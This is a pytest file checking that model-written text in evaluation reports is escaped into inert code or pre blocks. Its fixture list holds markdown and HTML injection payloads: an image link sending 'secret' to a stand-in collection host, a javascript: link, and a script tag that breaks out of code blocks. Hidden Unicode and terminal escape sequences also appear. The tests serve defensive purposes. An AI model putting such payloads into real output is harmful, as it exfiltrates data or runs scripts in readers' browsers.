"""What a model wrote does nothing in a report."""

import html
import re

import pytest
from app.evals.dataset.inert import block, inline, shortened, visible
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

_GITHUB = MarkdownIt("gfm-like", {"html": True, "linkify": False})
HOSTILE = [
    "![x](https://collect.example/?q=secret)", "[click](javascript:alert(1))", "<img src=//collect.example/p.gif>", "https://collect.example/a",
    "www.collect.example", "@someone see #12 and GH-3", "</code></pre></details><script>alert(1)</script>", "| a | b |\n|---|---|", "```\nx\n```",
    "# Title\n\n- item\n\n> quote", "a`b`c **bold** ~~s~~ $x$", "[r][1]\n\n[1]: https://collect.example", "&lt;b&gt; &amp; &#64;", "<!-- gone -->",
    "line\n\n\n\n</pre>\n\n<b>", "\\[x\\](y)",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_it_is_read_as_it_was_written_and_is_nothing_else(text: str) -> None:
    for shown in (inline(text), block(text)):
        rendered = _GITHUB.render(f"Before {shown} after" if shown.startswith("<code>") else f"{shown}\n\nAfter\n")
        assert set(re.findall(r"</?([a-z0-9]+)", rendered)) <= {"p", "code", "pre"}
        told = html.unescape(re.search(r"<(code|pre)>(.*?)</\1>", rendered, re.DOTALL)[2])  # type: ignore[index]
        assert " ".join(told.split()) == " ".join(text.split())


@given(st.text(max_size=80))
def test_no_text_at_all_leaves_its_place(text: str) -> None:
    for shown in (inline(text), block(text)):
        inside = (
            shown[len("<code>") : -len("</code>")]
            if shown.startswith("<code>")
            else shown[len("<pre>") : -len("</pre>")]
        )
        assert not set(inside) & set("<>|`*_[]()!@:/\\\n\r\"'~$-")
        assert set(re.findall(r"&[^;]*;|#", inside)) == set(re.findall(r"&#[0-9]+;", inside))


def test_what_nobody_sees_is_shown() -> None:
    assert html.unescape(inline("a\u202eb\u200bc\x1b[31m")) == "<code>a\\u202eb\\u200bc\\u001b[31m</code>"
    assert visible("\x1b]0;x\x07ok\u202e") == "\\u001b]0;x\\u0007ok\\u202e"


def test_it_is_cut() -> None:
    assert shortened("a" * 10, 5) == "aaaa…"
    assert len(html.unescape(inline("x" * 5000))) == 200 + len("<code></code>")


def test_nothing_is_told_as_nothing() -> None:
    assert html.unescape(inline(" \n")) == "<code>(nothing)</code>"
